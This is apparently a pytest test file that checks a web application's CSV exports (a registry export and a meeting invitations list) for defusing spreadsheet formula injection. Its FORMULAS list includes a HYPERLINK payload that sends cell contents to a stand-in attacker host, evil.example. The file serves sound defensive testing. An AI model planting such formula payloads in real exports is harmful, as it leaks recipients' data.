"""Every CSV of the application outside the open-data portal goes through one writer
(sakrad/shell/csv.py) that keeps spreadsheet formulas from running."""

from __future__ import annotations

import csv
import io

import pytest

from sakrad.accounts.models import Role
from sakrad.extensions import db
from sakrad.invitations import service
from sakrad.invitations.models import InvitationState
from sakrad.shell.csv import cell, defuse
from tests.helpers import make_user
from tests.invitations_factories import delegate, invite, org_with_rep, staff_meeting

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Klicka")',
    "+SUM(1;2) desc",
    "-2+3",
    "@SUM(A1)",
    " =1+1",
    "\t=1+1",
]
# The CSV routes this test covers; the portal's open-data files are the portal's own.
COVERED = {"/registry/export.csv", "/manage/meetings/<int:meeting_id>/invitations.csv"}


def _cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_no_formula(cells: list[str]) -> None:
    for c in cells:
        assert c.lstrip(" \t\r\n")[:1] not in ("=", "+", "-", "@") or c.startswith("'"), c


def test_every_non_portal_csv_route_is_covered(app):
    routes = {
        r.rule
        for r in app.url_map.iter_rules()
        if r.rule.endswith(".csv") and not r.endpoint.startswith(("portal.", "api."))
    }
    assert routes == COVERED


@pytest.mark.parametrize("value", FORMULAS)
def test_the_writer_defuses_every_formula_start(value):
    assert defuse(value) == "'" + value
    assert cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Röda Korset", "Info 1-2", "a=b", "e@mail.se", ""])
def test_ordinary_text_is_unchanged(value):
    assert defuse(value) == value


def test_registry_export_defuses_formulas(app, client, auth):
    from sakrad.organisations.models import Organisation

    with app.app_context():
        admin = make_user(Role.ADMIN)
        for n, value in enumerate(FORMULAS):
            db.session.add(
                Organisation(
                    name=value,
                    slug=f"formel-{n}",
                    description=value,
                    description_en=value,
                    website=value,
                    contact_email=value,
                )
            )
        db.session.commit()
        email = admin.email
    auth.login(email)
    response = client.get("/registry/export.csv")
    assert response.status_code == 200
    cells = _cells(response.data)
    assert "'" + FORMULAS[0] in cells and "'+SUM(1;2) desc" in cells and "' =1+1" in cells
    _assert_no_formula(cells)


def test_venue_csv_defuses_formulas(app, client, auth):
    with app.app_context():
        meeting, user = staff_meeting(delegates_per_org=len(FORMULAS))
        org, _ = org_with_rep(FORMULAS[0])
        invitation, _t = invite(meeting, org, state=InvitationState.SENT)
        service.accept(
            invitation,
            [
                delegate(value, f"d{n}@example.se", needs_note=value)
                for n, value in enumerate(FORMULAS)
            ],
        )
        db.session.commit()
        meeting_id, email = meeting.id, user.email
    auth.login(email)
    response = client.get(f"/manage/meetings/{meeting_id}/invitations.csv")
    assert response.status_code == 200
    assert response.data.startswith("\ufeff".encode())
    cells = _cells(response.data)
    assert "'@SUM(A1)" in cells and ("' =1+1" in cells or "'=1+1" in cells)
    _assert_no_formula(cells)
